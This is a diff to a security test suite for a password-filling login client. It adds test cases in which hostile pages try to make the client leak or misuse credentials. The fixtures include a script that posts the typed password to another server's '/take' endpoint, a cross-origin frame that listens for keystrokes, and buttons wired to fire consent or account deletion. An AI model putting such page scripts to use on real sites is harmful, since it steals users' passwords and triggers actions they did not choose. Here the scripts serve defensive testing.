@@ -40,15 +40,16 @@ class Login:
         options = options or ("--web", "terminal")
         return self.scene.httpc(
             *self.profile, *options, "--cacert", self.scene.bench.authority.ca, "--answer", "user=alice", "--answer",
-            "password=" + self.scene.password, self.sp.origin + "/", timeout=60)
+            "password=" + self.scene.password, "--answer", "word=" + self.scene.password, self.sp.origin + "/", timeout=60)
 
     def attended(self, *arguments):
         return self.scene.terminal(*self.profile, "--web", "terminal", *arguments, self.sp.origin + "/")
 
 
 FIELDS = '<input name=user><input type=password name=password><button>Log in</button>'
-# The same without a password, which no form puts into a URL.
-TEXTS = FIELDS.replace("type=password ", "")
+# The same with a password that the page shows, and without one: no form puts a password into a URL.
+SHOWN = FIELDS.replace("type=password ", "")
+TEXTS = SHOWN.replace("name=password", "name=word")
 
 # What the page is called, and how its form goes. Where the form really is for the page's own server, the answers have to
 # arrive there.
@@ -91,6 +92,7 @@ CLOSE = "<form method=post action=/enter><button formmethod=dialog{}>Close</butt
 @attack(1, "a form that no browser sends as it is puts no answer into a URL", [
     ("a button", CLOSE.format(""), True), ("with an action", CLOSE.format(" formaction=/close"), True),
     ("the form", "<form method=dialog>" + FIELDS + "</form>", False),
+    ("a form with a password that it shows", "<form>" + SHOWN + "</form>", False),
     ("a form that a script sends", "<script src=login.js></script><form>" + FIELDS + "</form>", False)])
 def dialog(scene, form, is_sent):
     login = Login(scene)
@@ -234,6 +236,66 @@ def nothing_to_show_chromium(scene, place):
     outcome = login.unattended("--headless").ends(67)
     require(b"unknown" in outcome.err, f"ended for another reason: {outcome.says()}")
     arrived(login.idp, "/login", "the request for the page")
+
+
+SCRIPTED = ("<form><input id=NAME><input id=password type=password><button>Log in</button></form><script>"
+            "document.forms[0].onsubmit = event => { event.preventDefault();"
+            " fetch('/in', { method: 'POST', body: document.getElementById('password').value }) }</script>")
+
+
+def posts(server):
+    return [request for request in server.received() if request.method == "POST"]
+
+
+@attack(1, "Chromium: a form that only a script sends is never sent empty, and with answers once", [
+    ("a field without an answer", "unknown", 0), ("with answers", "user", 1)], alone=True)
+def scripted_form(scene, name, count):
+    login = Login(scene)
+    login.idp.answers |= {"/login": page(SCRIPTED.replace("NAME", name)), "/in": page("")}
+    login.unattended("--headless").ends(67)
+    arrived(login.idp, "/login", "the request for the page")
+    require(len(posts(login.idp)) == count, f"sent {len(posts(login.idp))} times")
+    require(finds(login.idp.raw, scene.password) == (count == 1), "the answers did not arrive, or were sent without the rest")
+
+
+@attack(1, "Chromium: the Enter key that sends a form is for its field only, and its answers for the page's server", [
+    ("a frame of another server takes the focus", "frames[0].focus()"),
+    ("a button of the page takes the focus", "document.querySelector('button').focus()")], alone=True)
+def enter_key(scene, focus):
+    login = Login(scene)
+    consent = "onclick=\"fetch('/consent', { method: 'POST' })\""
+    login.other.answers["/frame"] = page(
+        f"<button autofocus {consent}>I accept</button>"
+        "<script>addEventListener('keydown', () => fetch('/key', { method: 'POST' }))</script>")
+    login.idp.answers |= {"/in": page(""), "/login": page(
+        f"<input id=password type=password><button type=button {consent}>I accept</button>"
+        f"<iframe src='{login.other.origin}/frame'></iframe><script>const field = document.getElementById('password');"
+        f"field.oninput = () => {focus}; field.onkeydown = event => {{ if (event.keyCode !== 13) return;"
+        "fetch('/in', { method: 'POST', body: field.value });"
+        f"fetch('{login.other.origin}/take', {{ method: 'POST', mode: 'no-cors', body: field.value }}) }}</script>")}
+    login.unattended("--headless").ends(67)
+    require(finds(arrived(login.idp, "/in", "what the key sends").raw, scene.password), "the answer did not arrive")
+    arrived(login.other, "/frame", "the request for the frame")
+    never(login.other, scene.password)
+    require([request.path for request in posts(login.idp)] == ["/in"], "a button was pressed")
+    require(not posts(login.other), "the frame of another server got the key")
+
+
+@attack(1, "Chromium: no button for scripts is pressed that consents or changes something", [
+    ("a name of an answer", "<button type=button name=password>I accept</button>"),
+    ("an id of an answer", "<button type=button id=password>I accept</button>"),
+    ("a label of an answer", "<div role=button>password</div><div role=button>Cancel</div>"),
+    ("consent", "<div role=button>I agree</div>"), ("a change", "<button type=button>Delete my account</button>"),
+    ("a choice", "<button type=button>Continue</button><button type=button>Cancel</button>"),
+    ("a text to enter", "<input maxlength=1><button>Continue</button>")], alone=True)
+def scripted_button(scene, html):
+    login = Login(scene)
+    login.idp.answers |= {"/in": page(""), "/login": page(
+        html + "<script>for (const button of document.querySelectorAll('button, [role=button]'))"
+        " button.onclick = () => fetch('/in', { method: 'POST' })</script>")}
+    login.unattended("--headless").ends(67)
+    arrived(login.idp, "/login", "the request for the page")
+    require(not posts(login.idp), "the button was pressed")
 
 
 # Point 5
